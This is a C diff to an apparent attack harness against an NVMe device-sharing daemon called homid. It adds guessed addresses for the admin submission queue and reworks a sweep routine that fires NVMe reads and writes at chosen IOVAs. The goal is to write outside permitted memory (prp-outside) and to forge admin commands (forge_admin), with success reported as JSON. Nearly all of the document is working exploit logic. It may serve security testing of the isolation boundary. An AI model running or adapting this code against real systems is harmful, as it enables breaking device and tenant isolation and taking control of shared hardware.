@@ -57,6 +57,14 @@ struct range {
     uint64_t from, to;
 };
 
+/* Where homid puts the admin submission queue: at the start of the last MiB that the IOMMU can address. */
+#define ADMIN_PAGE(bits)                                                                                     \
+    {                                                                                                        \
+        (UINT64_C(1) << (bits)) - (1 << 20), (UINT64_C(1) << (bits)) - (1 << 20) + PAGE                      \
+    }
+static const struct range admin_pages[] = {ADMIN_PAGE(39), ADMIN_PAGE(48), ADMIN_PAGE(57)};
+#define ADMIN_PAGES (sizeof(admin_pages) / sizeof(admin_pages[0]))
+
 struct attacker {
     struct homi *homi;
     struct homi_lease *lease;
@@ -200,18 +208,17 @@ static int aim(struct attacker *a, uint8_t opcode, uint32_t namespace_id, uint64
     return r == -EAGAIN ? 0 : r;
 }
 
-/* Aims at all of the ranges once. */
-static int sweep(struct attacker *a, uint8_t opcode)
+/* Aims at all pages of some ranges once. */
+static int sweep(struct attacker *a, const struct range *ranges, size_t count, uint8_t opcode)
 {
-    for (size_t i = 0; i < a->range_count; i++) {
-        for (uint64_t iova = a->ranges[i].from & ~(uint64_t)(PAGE - 1); iova < a->ranges[i].to;
-             iova += PAGE) {
+    for (size_t i = 0; i < count; i++) {
+        for (uint64_t iova = ranges[i].from & ~(uint64_t)(PAGE - 1); iova < ranges[i].to; iova += PAGE) {
             int r = own_page(a, iova) || ticks_stopped() ? 0 : aim(a, opcode, a->namespace->id, iova);
             if (r < 0)
                 return r;
         }
     }
-    return drain(a, 0);
+    return 0;
 }
 
 /* Writes the page at `buffer` to the namespace's first blocks, by the rules. */
@@ -242,10 +249,12 @@ static int prp_outside(struct attacker *a, const struct options *o)
         return failed(a, "writing by the rules", r);
     memset(guard, 0x11, GUARD_BYTES);
     do {
-        r = sweep(a, HOMI_NVME_READ); /* the device writes there */
+        r = sweep(a, a->ranges, a->range_count, HOMI_NVME_READ); /* the device writes there */
         if (r == 0)
-            r = sweep(a, HOMI_NVME_WRITE); /* the device reads there */
+            r = sweep(a, a->ranges, a->range_count, HOMI_NVME_WRITE); /* the device reads there */
     } while (r == 0 && ticks_now() < end && !ticks_stopped());
+    if (r == 0)
+        r = drain(a, 0);
     for (size_t i = 0; i < GUARD_BYTES; i++)
         changed += guard[i] != 0x11;
     printf("{\"attack\":\"prp-outside\",\"attempts\":%" PRIu64 ",\"succeeded\":%" PRIu64
@@ -336,8 +345,13 @@ static int forge_admin(struct attacker *a, const struct options *o)
     if (r != 0)
         return failed(a, "starting a thread", -r);
     do
-        r = sweep(a, HOMI_NVME_READ);
+        r = sweep(a, o->iova_to != 0 ? a->ranges : admin_pages,
+                  o->iova_to != 0 ? a->range_count : ADMIN_PAGES, HOMI_NVME_READ);
     while (r == 0 && ticks_now() < end && !ticks_stopped());
+    if (r == 0)
+        r = sweep(a, a->ranges, a->range_count, HOMI_NVME_READ);
+    if (r == 0)
+        r = drain(a, 0);
     atomic_store(&a->enough, true);
     pthread_join(a->thread, NULL);
     listed = foreign_listed(a, o->foreign_namespace, &known);
